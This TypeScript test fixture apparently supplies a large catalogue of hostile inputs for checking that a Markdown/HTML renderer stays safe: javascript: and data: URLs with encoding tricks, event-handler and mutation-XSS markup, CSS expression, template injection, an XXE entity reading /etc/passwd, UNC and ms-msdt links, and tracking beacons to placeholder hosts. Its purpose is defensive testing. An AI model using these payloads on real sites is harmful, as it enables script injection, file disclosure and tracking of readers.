/**
 * Texts that attack who shows them, in the classes that collections of such texts know: scripts, handlers on every kind
 * of element, addresses that run, markup that changes its meaning when it is read twice, pictures and styles that tell
 * somebody that a text was read. What runs calls `pwned`; what asks for something asks BEACON.
 */

/** Nobody lives there. */
export const BEACON = 'https://beacon.invalid'

let count = 0
const beacon = (): string => `${BEACON}/${(count += 1)}`

const RUN = ['pwned()', 'pwned(1)', 'top.pwned()', 'parent[`pwned`]()', 'self["pwned"](document.domain)', 'pwned``', '(pwned)()', "eval('pwned()')", 'setTimeout(`pwned()`)', 'location=`javascript:pwned()`']
const run = (): string => RUN[(count += 1) % RUN.length] ?? 'pwned()'

/** Addresses that run or lead where no text may lead, each by itself. */
function addresses(): string[] {
  return [
    `javascript:${run()}`, `JaVaScRiPt:${run()}`, ` javascript:${run()}`, `\u0001javascript:${run()}`, `java\tscript:${run()}`, `java\nscript:${run()}`,
    `javascript\u0000:${run()}`, `javascript&colon;${run()}`, `&#106;avascript:${run()}`, `&#x6A;&#x61;vascript:${run()}`, `&#0000106avascript:${run()}`, `java&Tab;script:${run()}`,
    `java&NewLine;script:${run()}`, `%6A%61vascript:${run()}`, `\\6A avascript:${run()}`, `javascript://%0a${run()}`, `javascript:/*--></title></style>*/${run()}//`,
    `javascript:'<script>${run()}</script>'`, `javascript:void(${run()})`, `jav\u00adascript:${run()}`, `ｊavascript:${run()}`, `vbscript:${run()}`, `livescript:${run()}`, `mocha:${run()}`,
    `data:text/html,<script>${run()}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run()}"/>`,
    `data:application/javascript,${run()}`, `data:,${run()}`, `blob:${BEACON}/x`, `filesystem:${BEACON}/temporary/x.html`, `view-source:javascript:${run()}`, `feed:javascript:${run()}`, `about:blank`,
    'file:///etc/passwd', 'file://evil.invalid/share/x.exe', '\\\\evil.invalid\\share\\x', '\\\\?\\C:\\x', '//evil.invalid/x', '///evil.invalid/x', '/\\evil.invalid/x', '\\/evil.invalid', 'C:/Windows/System32/calc.exe',
    'smb://evil.invalid/x', 'ms-msdt:/id', 'search-ms:query=x', 'ms-officecmd:{}', 'vscode://x/y', 'crewdeck://open', 'app://crewdeck/index.html', 'chrome://settings', 'mailto:', 'tel:1', 'ws://evil.invalid', 'ftp://evil.invalid/x',
    `https:${beacon().slice(6)}`, 'https:evil.invalid', 'https:/\\evil.invalid', 'https://user:pass@evil.invalid/', 'https://good.invalid@evil.invalid/', '/', '#', '?x=1', 'index.html', './assets/x.js', '../../../etc/passwd', '%2e%2e/%2e%2e/x'
  ]
}

/** The forms in which Markdown, or the HTML in it, takes an address. */
const FORMS: readonly ((address: string) => string)[] = [
  (a) => `[click](${a})`,
  (a) => `[click](<${a}> "title")`,
  (a) => `![see](${a})`,
  (a) => `<${a}>`,
  (a) => `[![in](${a})](${a})`,
  (a) => `<a href="${a}">click</a>`,
  (a) => `<img src='${a}'>`,
  (a) => `<iframe src="${a}"></iframe>`
]

const TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'marquee', 'select autofocus', 'textarea autofocus', 'iframe', 'object data=x', 'embed src=x', 'a href=x', 'math', 'x-custom tabindex=1', 'style', 'link rel=stylesheet href=x']
const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onstart', 'onanimationend', 'onpointerenter', 'onbeforeinput']

function handlers(): string[] {
  return TAGS.flatMap((tag) => EVENTS.slice(0, 6).map((event, index) => (index % 2 ? `<${tag} ${event}="${run()}">` : `<${tag.replace(' ', '/')} ${event}=${run().replaceAll(' ', '')}>`)))
}

function scripts(): string[] {
  return [
    `<script>${run()}</script>`, `<SCRIPT>${run()}</SCRIPT>`, `<script src=${beacon()}></script>`, `<script\n>${run()}</script >`, `<script/x>${run()}</script>`, `<scr<script>ipt>${run()}</script>`,
    `<<script>${run()}//<</script>`, `"><script>${run()}</script>`, `'"--></style></script><script>${run()}</script>`, `</textarea><script>${run()}</script>`, `</title><script>${run()}</script>`,
    `<script type=module>import '${beacon()}'</script>`, `<noscript><p title="</noscript><img src=x onerror=${run()}>">`, `<template><script>${run()}</script></template>`, `<svg><script>${run()}</script></svg>`,
    `<svg><script href=${beacon()} /></svg>`, `<math><mtext><script>${run()}</script></mtext></math>`, `<svg><animate onbegin=${run()} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run()}"><text y=20>x</text></a></svg>`,
    `<svg><set attributeName=href to="javascript:${run()}"/></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${run()} /></svg>#x">`, `<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>">`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${run()}">x</maction></math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run()}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run()}>`, `<svg></p><style><a id="</style><img src=1 onerror=${run()}>">`, `<p id="</p><img src=x onerror=${run()}>">`, `<div><![CDATA[<img src=x onerror=${run()}>]]></div>`,
    `<!--><img src=x onerror=${run()}>-->`, `<!-- --!><img src=x onerror=${run()}> -->`, `<?xml version="1.0"?><x onload=${run()}>`, `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`, `<![if gte IE 4]><script>${run()}</script><![endif]>`,
    `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`, `<iframe src="javascript:parent.pwned()"></iframe>`, `<object data="javascript:${run()}"></object>`, `<object type="text/html" data="${beacon()}"></object>`, `<embed src="javascript:${run()}">`,
    `<form action="javascript:${run()}"><button>go</button></form>`, `<form><button formaction="javascript:${run()}">go</button></form>`, `<isindex type=image src=1 onerror=${run()}>`, `<input type=image src=x onerror=${run()}>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run()}">`, `<meta http-equiv="refresh" content="0;url=${beacon()}">`, `<base href="${BEACON}/">`, `<link rel=stylesheet href=${beacon()}>`, `<link rel=prefetch href=${beacon()}>`, `<link rel=dns-prefetch href=${BEACON}>`, `<link rel=modulepreload href=${beacon()}>`,
    `<style>@import '${beacon()}';</style>`, `<style>body{background:url(${beacon()})}</style>`, `<style>*{x:expression(${run()})}</style>`, `<div style="background:url(${beacon()})">x</div>`, `<div style="behavior:url(#x);width:expression(${run()})">x</div>`, `<p style="animation-name:x" onanimationstart=${run()}>x</p>`,
    `<img src=${beacon()}>`, `<img srcset="${beacon()} 1x">`, `<picture><source srcset=${beacon()}><img></picture>`, `<video poster=${beacon()} src=${beacon()}></video>`, `<audio src=${beacon()} autoplay></audio>`, `<body background=${beacon()}>`, `<table background=${beacon()}><tr><td background=${beacon()}>x`, `<svg><image href=${beacon()} /></svg>`, `<a href=${BEACON} ping=${beacon()}>x</a>`, `<track src=${beacon()}>`, `<bgsound src=${beacon()}>`, `<frameset><frame src=${beacon()}></frameset>`, `<portal src=${beacon()}>`, `<fencedframe src=${beacon()}>`,
    `<form id=pwned name=getElementById><input name=attributes></form>`, `<img name=cookie id=body>`, `<a id=defaultView href="x:y">`, `{{constructor.constructor('pwned()')()}}`, '${pwned()}', '<%= pwned() %>', '#{pwned()}', '{{7*7}}', `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=pwned() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned()//>\\x3e`
  ]
}

/** What only Markdown, and what is built on it, can be made to do. */
function markdown(): string[] {
  return [
    `[a]: javascript:${run()}\n\n[click][a] and [a] and ![a]`, `[b]: <data:text/html,<script>${run()}</script>> "x"\n\n[b]`, `[a](javascript:${run()} "x" onmouseover=${run()})`, `[a](x" onmouseover="${run()})`, `![a](x" onerror="${run()})`, `![a"onerror="${run()}](x)`,
    `[<img src=x onerror=${run()}>](https://good.invalid)`, `**<img src=x onerror=${run()}>**`, `# <svg onload=${run()}>`, `> <script>${run()}</script>`, `- <script>${run()}</script>`, `| <script>${run()}</script> |\n| - |\n| <img src=x onerror=${run()}> |`,
    `\`\`\`html onload=${run()}\n<script>${run()}</script>\n\`\`\``, `\`\`\`"><script>${run()}</script>\nx\n\`\`\``, `\`\`\`javascript\n${run()}\n\`\`\``, `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${run()}>"]\n  click A "javascript:${run()}"\n\`\`\``, `\`\`\`svg\n<svg onload=${run()}>\n\`\`\``, `~~~{=html}\n<script>${run()}</script>\n~~~`,
    `$\\href{javascript:${run()}}{x}$`, `$$\\url{javascript:${run()}}$$`, `$\\includegraphics{${beacon()}}$`, `$\\htmlData{onclick=${run()}}{x}$`, `$\\htmlStyle{background:url(${beacon()})}{x}$`, `$\\htmlId{pwned}{x} \\htmlClass{x}{y}$`, `$\\unicode{<img src=x onerror=${run()}>}$`, `$\\text{<img src=x onerror=${run()}>}$`, `$$\\def\\a{\\a\\a}\\a$$`, `$\\rule{999999em}{999999em}$`, `$\\color{red;background:url(${beacon()})}x$`,
    `[^<script>${run()}</script>]\n\n[^<script>${run()}</script>]: x`, `[^__proto__] [^constructor]\n\n[^__proto__]: x\n\n[^constructor]: <img src=x onerror=${run()}>`, `http://a.invalid/"onmouseover="${run()}`, `www.a.invalid/<script>${run()}</script>`, `"onmouseover=${run()}"@a.invalid`, `<https://a.invalid/"><script>${run()}</script>>`, `<javascript:${run()}>`, `<a@b.invalid" onclick="${run()}">`,
    `&lt;script&gt;${run()}&lt;/script&gt;`, `\\<script>${run()}\\</script>`, `&#60;img src=x onerror=${run()}&#62;`, `<img\u2028src=x onerror=${run()}>`, `\u202e<script>)(denwp</script>`, `<b\u0000 onclick=${run()}>x</b>`, `<details open ontoggle=${run()}><summary>x</summary></details>`, `---\ntitle: <script>${run()}</script>\n---`, `<div markdown="1" onclick="${run()}">[x](javascript:${run()})</div>`, `![](${beacon()})`, `![x](${beacon()} "x")`, `[![x](${beacon()})](${beacon()})`, `![x][c]\n\n[c]: ${beacon()}`
  ]
}

/** All of them, each a text of its own. */
export const HOSTILE: readonly string[] = [
  ...scripts(),
  ...handlers(),
  ...markdown(),
  ...addresses().flatMap((address, index) => FORMS.filter((_, form) => form < 3 || (form + index) % 3 === 0).map((form) => form(address)))
]

/** Those that do something by themselves, or when they are touched, where markup is taken as it comes. */
export const HOSTILE_HTML: readonly string[] = [...scripts(), ...handlers()]
